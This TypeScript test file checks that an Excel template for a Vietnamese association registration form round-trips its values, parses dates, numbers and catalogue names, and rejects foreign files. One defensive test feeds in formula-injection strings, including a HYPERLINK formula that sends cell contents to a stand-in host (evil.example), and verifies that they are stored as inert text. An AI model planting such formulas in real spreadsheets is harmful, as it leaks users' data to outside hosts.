/** The Excel template of Biểu mẫu 1 (FORM-1.md, R-8.2): values → workbook → values is the identity. */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { ALL_FIELDS, SUBLISTS } from '../../src/features/register-form/definition.js';
import type { CatalogueOptions } from '../../src/features/register-form/display.js';
import type { FlatBody } from '../../src/features/register-form/flat-body.js';
import { parseAssociationForm } from '../../src/features/register-form/schema.js';
import {
  CATALOGUE_SHEET,
  formTemplateWorkbook,
  MAIN_SHEET,
  readFormWorkbook,
  sheetName,
} from '../../src/features/register-form/workbook.js';

const opt = (code: string, name: string, current = true) => ({ code, name, current });
const catalogues: CatalogueOptions = {
  association_kinds: [opt('hoi', 'Hội'), opt('hiep_hoi', 'Hiệp hội')],
  provinces: [opt('01', 'Hà Nội'), opt('79', 'Hồ Chí Minh'), opt('30', 'Hải Dương', false)],
  fields: [opt('KHCN', 'Khoa học - công nghệ'), opt('YTE', 'Y tế, dược, đông y'), opt('VHNT', 'Văn hóa - nghệ thuật')],
  ministries: [opt('BNV', 'Bộ Nội vụ')],
  natures: [opt('xh_nn', 'Hội xã hội - nghề nghiệp')],
  hq_origins: [opt('thue', 'Thuê ngoài')],
  statuses: [opt('hoat_dong', 'Hoạt động')],
  leader_positions: [opt('CT', 'Chủ tịch'), opt('PCT', 'Phó Chủ tịch')],
};
const codes = Object.fromEntries(Object.entries(catalogues).map(([k, v]) => [k, new Set(v.map((o) => o.code))]));

/** A field the fixture leaves out reads back blank: a field added to the definition needs no edit here. */
const blankFields: FlatBody = Object.fromEntries(ALL_FIELDS.map((f) => [f.name, '']));

const values: FlatBody = {
  ...blankFields,
  code: 'H000123',
  name: 'Hội Khoa học Thử nghiệm Việt Nam',
  abbreviation: 'VAST-T',
  foreign_name: 'Vietnam Test Science Association',
  foreign_abbreviation: '',
  kind_code: 'hoi',
  hq_address: '12 Phố Huế',
  hq_ward: 'Phường Hai Bà Trưng',
  hq_province_code: '01',
  phone: '0900 000 123',
  email: 'vanphong@hoi-demo.vn',
  website: 'https://hoi-demo.vn',
  tax_code: '0101234567',
  other_identifiers: '=1+1 is text, not a formula',
  purpose: 'Tập hợp, đoàn kết các nhà khoa học.\nDòng thứ hai.',
  scope: 'toan_quoc',
  main_field_code: 'KHCN',
  other_field_codes: ['YTE', 'VHNT'],
  managing_ministry_code: 'BNV',
  nature_code: 'xh_nn',
  party_state_tasked: 'on',
  tasked_legal_basis: 'Quyết định 68/2010/QĐ-TTg',
  tasked_from: '01/03/2010',
  tasked_to: '',
  exec_committee_count: '45',
  standing_committee_count: '9',
  inspection_committee_count: '5',
  member_associations_count: '',
  branches_count: '12.500',
  members_total: '1.250.000',
  members_official: '1.000.000',
  members_associate: '250.000',
  members_honorary: '0',
  members_organisations: '',
  members_individuals: '1.250.000',
  hq_area_m2: '120,5',
  hq_origin_code: 'thue',
  hq_origin_document: 'Hợp đồng số 12/HĐ',
  annual_report_year: '2025',
  annual_report_filed_on: '15/01/2026',
  inspections: 'Thanh tra Bộ Nội vụ, 03/2025: không phát hiện vi phạm.\nKiểm tra của Sở Nội vụ, 2024.',
  violations_actions: '',
  awards: 'Huân chương Lao động hạng Nhất (2020)',
  status: 'hoat_dong',
  data_level: 'basic',
  paper_dossier_ref: '',
  'offices.0.address': '5 Lê Lợi',
  'offices.0.province_code': '79',
  'offices.0.decision_date': '15/06/2018',
  'leaders.0.id': '17',
  'leaders.0.full_name': 'Nguyễn Văn Thử',
  'leaders.0.position_code': 'CT',
  'leaders.0.term_number': '3',
  'leaders.0.birth_year': '1960',
  'leaders.0.gender': 'nam',
  'leaders.0.official_status': 'nghi_huu',
  'leaders.0.full_time': 'on',
  'leaders.0.elected_on': '20/11/2022',
  'leaders.0.email': 'ct@hoi-demo.vn',
  'leaders.1.full_name': 'Trần Thị Mẫu',
  'leaders.1.position_code': 'PCT',
  'leaders.1.official_status': 'khong',
  'leaders.1.elected_on': '2022-11-20',
  'funds.0.year': '2024',
  'funds.0.source': 'hoi_phi',
  'funds.0.amount_vnd': '1.500.000.000',
  'funds.1.year': '2024',
  'funds.1.source': 'tai_tro_nuoc_ngoai',
  'funds.1.amount_vnd': '1500000',
};

describe('Biểu mẫu 1 Excel template', () => {
  it('round-trips values → workbook → values unchanged', async () => {
    const buffer = await formTemplateWorkbook({ catalogues, title: values.name as string }, values);
    const read = await readFormWorkbook(buffer);
    expect(read).toEqual({ ok: true, values });
  });

  it('has every field of the form definition, drop-downs from the catalogues, and one sheet per sub-list', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await formTemplateWorkbook({ catalogues })) as unknown as ExcelJS.Buffer);
    const main = wb.getWorksheet(MAIN_SHEET) as ExcelJS.Worksheet;
    const keys = new Map<string, number>();
    main.eachRow((row, n) => keys.set(String(row.getCell(4).value ?? ''), n));
    for (const def of ALL_FIELDS) expect(keys.has(def.name), def.name).toBe(true);
    const provinceRow = keys.get('hq_province_code') as number;
    const dv = main.getCell(provinceRow, 2).dataValidation;
    expect(dv.type).toBe('list');
    expect(String(dv.formulae?.[0])).toContain(CATALOGUE_SHEET);
    expect(wb.getWorksheet(CATALOGUE_SHEET)?.state).toBe('hidden');
    for (const list of SUBLISTS) {
      const ws = wb.getWorksheet(sheetName(list.title)) as ExcelJS.Worksheet;
      expect(ws, list.name).toBeTruthy();
      expect(ws.getCell(1, 1).value).toContain(list.fields[0]?.label);
    }
  });

  it('reads what Excel stores: dates, numbers, rich text, names typed instead of codes', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await formTemplateWorkbook({ catalogues })) as unknown as ExcelJS.Buffer);
    const main = wb.getWorksheet(MAIN_SHEET) as ExcelJS.Worksheet;
    const rowOf = (key: string) => {
      let found = 0;
      main.eachRow((row, n) => {
        if (row.getCell(4).value === key) found = n;
      });
      return found;
    };
    main.getCell(rowOf('name'), 2).value = { richText: [{ text: 'Hội ' }, { text: 'Rich', font: { bold: true } }] };
    main.getCell(rowOf('tasked_from'), 2).value = new Date(Date.UTC(2013, 1, 5));
    main.getCell(rowOf('members_total'), 2).value = 1500;
    main.getCell(rowOf('hq_area_m2'), 2).value = 120.5;
    main.getCell(rowOf('hq_province_code'), 2).value = 'hồ chí minh';
    main.getCell(rowOf('kind_code'), 2).value = 'hoi — Hội';
    main.getCell(rowOf('party_state_tasked'), 2).value = true;
    main.getCell(rowOf('scope'), 2).value = 'toan_quoc';
    main.getCell(rowOf('main_field_code'), 2).value = { formula: '"KHCN"', result: 'KHCN' };
    const leaders = wb.getWorksheet(sheetName('Lãnh đạo hội')) as ExcelJS.Worksheet;
    leaders.getCell(3, 1).value = 'Lê Văn A';
    leaders.getCell(3, 2).value = 'Chủ tịch';
    leaders.getCell(3, 11).value = new Date(Date.UTC(2020, 0, 31));
    const read = await readFormWorkbook(Buffer.from(await wb.xlsx.writeBuffer()));
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    expect(read.values).toMatchObject({
      name: 'Hội Rich',
      tasked_from: '05/02/2013',
      members_total: '1500',
      hq_area_m2: '120,5',
      hq_province_code: '79',
      kind_code: 'hoi',
      party_state_tasked: 'on',
      main_field_code: 'KHCN',
      'leaders.0.full_name': 'Lê Văn A',
      'leaders.0.position_code': 'CT',
      'leaders.0.elected_on': '31/01/2020',
    });
    const parsed = parseAssociationForm(read.values, codes);
    expect(parsed.input.record.members_total).toBe(1500);
    expect(parsed.input.lists.leaders?.[0]?.position_code).toBe('CT');
  });

  it('writes formula-like text as neutralised text (RELIABILITY check 20) and reads it back unchanged', async () => {
    const formulas: FlatBody = {
      ...values,
      name: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
      purpose: '+SUM(1,2)\nDòng hai',
      abbreviation: '-2+3',
      foreign_name: '@cmd',
      hq_address: "'=already quoted",
      other_identifiers: "''+twice",
      'leaders.0.full_name': '=1+1',
      'offices.0.address': '@SUM(A1)',
    };
    const buffer = await formTemplateWorkbook({ catalogues, title: formulas.name as string }, formulas);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buffer as unknown as ExcelJS.Buffer);
    const main = wb.getWorksheet(MAIN_SHEET) as ExcelJS.Worksheet;
    const cellOf = (key: string) => {
      let value: ExcelJS.CellValue = null;
      main.eachRow((row) => {
        if (row.getCell(4).value === key) value = row.getCell(2).value;
      });
      return value as ExcelJS.CellValue;
    };
    for (const key of ['name', 'purpose', 'abbreviation', 'foreign_name', 'hq_address', 'other_identifiers']) {
      const cell = cellOf(key);
      expect(typeof cell, key).toBe('string'); // a string cell, not { formula }
      expect(cell, key).toBe(`'${formulas[key]}`);
    }
    const leaders = wb.getWorksheet(sheetName('Lãnh đạo hội')) as ExcelJS.Worksheet;
    expect(leaders.getCell(3, 1).value).toBe("'=1+1");
    const offices = wb.getWorksheet(sheetName('Văn phòng đại diện')) as ExcelJS.Worksheet;
    expect(offices.getCell(3, 1).value).toBe("'@SUM(A1)");
    expect(await readFormWorkbook(buffer)).toEqual({ ok: true, values: formulas });
  });

  it('refuses a file that is not the template, in Vietnamese', async () => {
    expect(await readFormWorkbook(Buffer.from('not a workbook'))).toEqual({
      ok: false,
      errors: [expect.stringContaining('không phải là tệp Excel')],
    });
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('Sheet1');
    const other = await readFormWorkbook(Buffer.from(await wb.xlsx.writeBuffer()));
    expect(other.ok).toBe(false);
    if (!other.ok) expect(other.errors[0]).toContain(MAIN_SHEET);
  });
});
